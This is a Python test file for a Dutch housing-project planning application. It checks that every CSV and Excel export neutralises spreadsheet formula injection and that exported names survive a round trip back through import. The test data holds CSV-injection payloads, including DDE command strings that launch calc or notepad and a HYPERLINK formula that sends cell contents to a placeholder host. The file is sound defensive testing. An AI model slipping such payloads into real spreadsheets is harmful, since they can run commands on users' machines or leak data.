"""Every export is inert in a spreadsheet (issue #16, fault 2: formula injection), through its real entry point,
and export → import stays lossless for names that look like formulas."""

import csv
import io
import re
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from io import StringIO

import openpyxl
import pytest
from django.core.management import call_command
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from bouwregie import cells
from bouwregie.ingest.export import export
from bouwregie.ingest.importer import ImportOptions, run_import
from bouwregie.ingest.mapping import TableMapper
from bouwregie.ingest.merge import apply_row
from bouwregie.ingest.profiles import choose_profile
from bouwregie.ingest.readers import read_table
from bouwregie.projects import services
from bouwregie.projects.models import Project
from bouwregie.projects.rules import MilestoneData, canonical

from .builders import create
from .planlijsten import PROVINCIAL_HEADER, PROVINCIAL_ROWS, write_csv
from .roles import seat_user

HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"klik")'
# OWASP "CSV Injection" and its variants: each would run (or start a formula) in Excel, LibreOffice or Sheets.
PAYLOADS = [
    HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "=1+1", "\t=1", "\r=1", "\n=1", " =1+1",
    "＝1+1", "＋1+1", "－2+3", "＠SUM(1+1)", "=cmd|' /C notepad'!'A1'", "-", "@", "'=1+1", "''=1+1",
]  # fmt: skip
# Names as the importer keeps them (it strips a cell's outer whitespace): these must come back exactly.
# A project's name is stored stripped too.
STORED = sorted({p.strip() for p in PAYLOADS})
NAMES = [p for p in PAYLOADS if p == p.strip()] + ["'t Veld", "-2", "Plan -2+3", "'-2", "'", "#N/A", "#REF!"]
# An independent check of what a spreadsheet runs: a sign (ASCII or full-width) or a control character first,
# after any spaces; a field that is only a number is data.
_RUNS = re.compile(r"[ \u00a0\u3000]*[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
_NUMBER = re.compile(r"[+-]?[0-9][0-9.,]*")

pytestmark = pytest.mark.django_db


def runs(field) -> bool:
    return isinstance(field, str) and bool(_RUNS.match(field)) and not _NUMBER.fullmatch(field.strip())


def csv_fields(text: str, delimiter=";") -> list[str]:
    return [f for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter) for f in row]


def assert_inert_csv(text: str) -> list[str]:
    fields = csv_fields(text)
    assert not [f for f in fields if runs(f)]
    return fields


def assert_inert_xlsx(content: bytes) -> list:
    """No formula, hyperlink, defined name or external link anywhere in the workbook; returns every value."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            assert "externalLink" not in name and "connections" not in name, name
            xml = archive.read(name)
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in xml and b"<f " not in xml and b"<hyperlink" not in xml, name
            if name == "xl/workbook.xml":
                assert not re.search(rb"<definedName[ >]|<externalReference", xml)
    workbook = openpyxl.load_workbook(io.BytesIO(content), data_only=False)
    assert not list(workbook.defined_names) and not workbook._external_links
    values = []
    for sheet in workbook.worksheets:
        assert not sheet._hyperlinks
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (cell.coordinate, cell.value)  # no formula, no error
                assert not runs(cell.value), (cell.coordinate, cell.value)
                values.append(cell.value)
    return values


@pytest.fixture
def world():
    """A project per payload in Utrecht and a closed peiling, so that every writer has something to write."""
    for name in PAYLOADS:
        create(name, "GM0344", plan_status="1A", homes={"sociale_huur": {"gestapeld": 10}},
               milestones=(MilestoneData("oplevering", planned=date(2027, 6, 1)),))  # fmt: skip
    services.close_peiling("2025-Q2", author="test", now=datetime(2025, 7, 15, tzinfo=UTC))


@pytest.fixture
def reader(client):
    client.force_login(seat_user("bzk", "Ministerie", "rijk", None, None, "lezer"))
    return client


# The neutraliser itself


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_gets_one_apostrophe_and_comes_back(payload):
    assert cells.inert(payload) == "'" + payload
    assert cells.restored(cells.inert(payload)) == payload


@pytest.mark.parametrize("value", [-2, 3.5, 0, None, True, date(2025, 1, 1), "-2", "-1.234,5", "+31", "Plan",
                                   "'t Veld", "", "a=b"])  # fmt: skip
def test_numbers_dates_and_plain_text_are_written_as_they_are(value):
    assert cells.inert(value) is value or cells.inert(value) == value
    assert cells.restored(value) == value


def test_a_name_that_itself_starts_with_an_apostrophe_keeps_it():
    assert cells.inert("'=1") == "''=1" and cells.restored("''=1") == "'=1"
    assert cells.inert("'-2") == "'-2" and cells.restored("'-2") == "'-2"  # a quoted number is not ours


@given(st.text())
def test_any_text_round_trips_and_never_runs(text):
    written = cells.inert(text)
    assert cells.restored(written) == text
    assert not runs(written)
    assert written in (text, "'" + text)


def test_xlsx_text_cells_are_explicit_strings_even_when_openpyxl_would_guess_a_formula():
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("t")
    cells.xlsx_append(sheet, [HYPERLINK, -2, 1.5, None, "tekst", "#N/A"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert assert_inert_xlsx(buffer.getvalue()) == ["'" + HYPERLINK, -2, 1.5, None, "tekst", "#N/A"]


def test_a_stored_control_character_does_not_fail_the_excel_export():
    """Names with C0 control characters are refused at the door now (projects.rules), but SQLite stored them
    before: such a name is shown with U+FFFD in the workbook instead of failing the whole export."""
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("t")
    cells.xlsx_append(sheet, ["Kanaal\x01eiland", "=1\x02"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert assert_inert_xlsx(buffer.getvalue()) == ["Kanaal\ufffdeiland", "'=1\ufffd"]


# The web downloads


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_project_list_export_is_inert(reader, world, fmt):
    response = reader.get(f"/projecten/export.{fmt}")
    assert response.status_code == 200
    if fmt == "csv":
        values = assert_inert_csv(response.getvalue().decode("utf-8-sig"))
    else:
        values = assert_inert_xlsx(response.getvalue())
        assert -2 not in values and 10 in values  # numbers stay numbers
    for name in STORED:
        assert "'" + name in values


def test_the_validation_report_of_an_upload_is_inert(client, tmp_path):
    """The report quotes the uploaded cell; the web download and the report file of the CLI alike."""
    rows = [list(r) for r in PROVINCIAL_ROWS[:3]]
    rows[0][1], rows[0][6] = HYPERLINK, "@SUM(1+1)"  # the name, and a count that is not a number
    rows[1][6] = "-2+3"
    path = write_csv(tmp_path / "lijst.csv", PROVINCIAL_HEADER, rows)
    report = tmp_path / "rapport.csv"
    result = run_import(path, ImportOptions(source="Provincie", author="t", allow_partial=True, report_path=report))
    written = assert_inert_csv(report.read_text(encoding="utf-8-sig"))
    assert "'@SUM(1+1)" in written and "'-2+3" in written
    client.force_login(seat_user("bzk", "Ministerie", "rijk", None, None, "lezer"))
    response = client.get(f"/planlijsten/{result.run.pk}/rapport.csv")
    assert response.status_code == 200 and assert_inert_csv(response.content.decode("utf-8-sig")) == written


WBI_HEADER = ("id;gemeente;tijdvak;tijdvak_sluit;woningen;betaalbaar;woondeal_aandeel_betaalbaar;investeringen;"
              "kostenverhaal;grondverkoop;overige_rijksbijdragen;cofinanciering;gevraagd;activiteiten;"
              "noodzakelijk_voor_woondeal;specifiek_knelpunt;realisatiestimulans_onvoldoende;parallel_plannen;"
              "versnellingstafel;open_boeken;start_eerste_woningen;laatste_woningen;noodzaak;effectiviteit;"
              "efficientie;opgave_marktgebied;voorraad_marktgebied;ingediend")  # fmt: skip
WBI_ROW = ("{id};GM0344;2025-1;2025-10-01;250;150;67;10.000.000;2.000.000;1.500.000;500.000;2.500.000;2.450.000;"
           "bodemsanering;ja;ja;ja;ja;ja;ja;2027-01-01;2033-01-01;8;7;6;10000;200000;2025-09-01 12:00")  # fmt: skip
WBI_IDS = [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "＝1+1"]


def test_the_woningbouwimpuls_ranking_is_inert_on_the_web_and_from_the_cli(client, tmp_path):
    """One municipality's application id reaches the Rijk's spreadsheet."""
    from bouwregie.instruments import wbi_store

    header = WBI_HEADER.split(";")
    for i in WBI_IDS:
        wbi_store.register(dict(zip(header, WBI_ROW.format(id=i).split(";"), strict=True)), None)
    client.force_login(seat_user("bzk", "Ministerie", "rijk", None, None, "lezer"))
    query = "/instrumenten/woningbouwimpuls?tijdvak=2025-1&budget=3000000&formaat="
    text = assert_inert_csv(client.get(query + "csv").content.decode("utf-8-sig"))
    excel = assert_inert_xlsx(client.get(query + "xlsx").content)
    path = tmp_path / "aanvragen.csv"
    path.write_text("\n".join([WBI_HEADER, *(WBI_ROW.format(id=i) for i in WBI_IDS)]), encoding="utf-8")
    out = StringIO()
    call_command("instruments", "wbi", str(path), "--budget", "3000000", "--format", "csv", stdout=out)
    cli = assert_inert_csv(out.getvalue())
    for i in WBI_IDS:
        assert "'" + i in text and "'" + i in excel and "'" + i in cli


def test_the_gebiedsbudget_download_is_inert(reader):
    from bouwregie.instruments import gebiedsbudget_store

    package = {"id": HYPERLINK, "gebied": "@SUM(1+1)", "besluitdatum": "2025-11-01", "gemeenten": ["GM1892"],
               "maatregelen": {"openbare_ruimte": "20.000.000"}, "regio_bijdrage": "12.000.000",
               "gevraagd": "20.000.000", "regionaal_betaalbaar_procent": 68, "woningen": 3000,
               "woningen_voor_2030": 1200, "laatste_woningen_jaar": 2033, "voorwaarden": {}}  # fmt: skip
    gebiedsbudget_store.register(package, None)
    text = assert_inert_csv(reader.get("/instrumenten/gebiedsbudget?formaat=csv").content.decode("utf-8-sig"))
    excel = assert_inert_xlsx(reader.get("/instrumenten/gebiedsbudget?formaat=xlsx").content)
    assert "'" + HYPERLINK in text and "'@SUM(1+1)" in excel


# The command line


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "gpkg", "geojson"])
def test_bouwregie_export_is_inert_in_spreadsheets_and_plain_in_gis_files(world, tmp_path, fmt):
    path = tmp_path / f"projecten.{fmt}"
    call_command("export", "--format", fmt, "--output", str(path), stdout=StringIO())
    if fmt == "csv":
        values = assert_inert_csv(path.read_text(encoding="utf-8-sig"))
    elif fmt == "xlsx":
        values = assert_inert_xlsx(path.read_bytes())
    else:  # QGIS runs nothing: the names as they are
        from pyogrio.raw import read

        meta, _fids, _wkb, fields = read(str(path))
        values = list(fields[list(meta["fields"]).index("projectnaam")])
        assert set(STORED) <= set(values)
        return
    assert {"'" + p for p in STORED} <= set(values)


def test_the_command_line_csv_formats_are_inert(world, capsys):
    outputs = {}
    for args in (["kansrijk", "score", "--area", "GM0344"], ["monitor", "--area", "GM0344"],
                 ["instruments", "realisatiestimulans", "--gemeente", "GM0344"],
                 ["forecast", "--area", "GM0344", "--runs", "50"]):  # fmt: skip
        out = StringIO()
        call_command(*args, "--format", "csv", stdout=out)
        outputs[args[0]] = assert_inert_csv(out.getvalue() + capsys.readouterr().out)
        assert len(outputs[args[0]]) > 5
    assert {"'" + p for p in STORED} <= set(outputs["kansrijk"])


# Export → import: our own reader takes the apostrophe off again


def _imported_names(path) -> dict[str, str]:
    table = read_table(path)
    binding = choose_profile(table.columns, None)
    return {
        row.projectcode: row.fields.get("name") for row in TableMapper(binding, services.matcher(), table).results()
    }


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "gpkg", "geojson"])
def test_formula_like_names_survive_export_and_import_exactly(world, tmp_path, fmt):
    for name in NAMES:
        create(name, "GM0363")
    path = tmp_path / f"projecten.{fmt}"
    export(path, fmt)
    current = services.current_data(Project.objects.values_list("id", flat=True))
    names = {services.project_code(pid): data.name.strip() for pid, (_n, data) in current.items()}
    assert _imported_names(path) == names


def test_reimporting_an_export_with_formula_like_names_changes_nothing(world, tmp_path):
    for name in NAMES:
        create(name, "GM0363")
    current = {pid: data for pid, (_n, data) in services.current_data(Project.objects.values_list("id", flat=True))
               .items() if data.name == data.name.strip()}  # fmt: skip
    for fmt in ("csv", "xlsx"):
        path = tmp_path / f"projecten.{fmt}"
        export(path, fmt)
        table = read_table(path)
        binding = choose_profile(table.columns, None)
        codes = dict(Project.objects.values_list("code", "id"))
        for row in TableMapper(binding, services.matcher(), table).results():
            pid = codes[row.projectcode]
            if pid in current:
                fresh = apply_row(None, row.fields, row.blank, row.cells)
                assert canonical(fresh) == canonical(replace(current[pid], subsidies=(), open_book={}))


_XLSX_ILLEGAL = "".join(chr(c) for c in [*range(0, 9), 11, 12, *range(14, 32)])  # XML 1.0 cannot hold these
_NAME_TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters=_XLSX_ILLEGAL), max_size=40)


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.one_of(
        _NAME_TEXT,
        st.builds(
            lambda quotes, sign, rest: quotes + sign + rest,
            st.sampled_from(["", "'", "''", " "]),
            st.sampled_from(sorted(cells.TRIGGERS)),
            _NAME_TEXT,
        ),  # fmt: skip
    )
    .map(str.strip)
    .filter(lambda n: n and n.upper() != "#LEEG")
)
@example("0\r0")  # a carriage return kept by openpyxl (once a failing case)
def test_any_name_round_trips_through_every_export_format(tmp_path, name):
    project = create(name, "GM0344")
    for fmt in ("csv", "xlsx", "gpkg", "geojson"):
        path = tmp_path / f"p.{fmt}"
        export(path, fmt)
        expected = {name}
        if fmt == "xlsx":  # XML may turn a carriage return inside text into a line feed (a limit of .xlsx, not
            # ours); openpyxl keeps it as _x000D_ where it can (hypothesis found '0\r0' kept), so either is exact
            expected.add(name.replace("\r\n", "\n").replace("\r", "\n"))
        assert _imported_names(path)[project.code] in expected, fmt
        if fmt == "csv":
            assert_inert_csv(path.read_text(encoding="utf-8-sig"))
        elif fmt == "xlsx":
            assert_inert_xlsx(path.read_bytes())
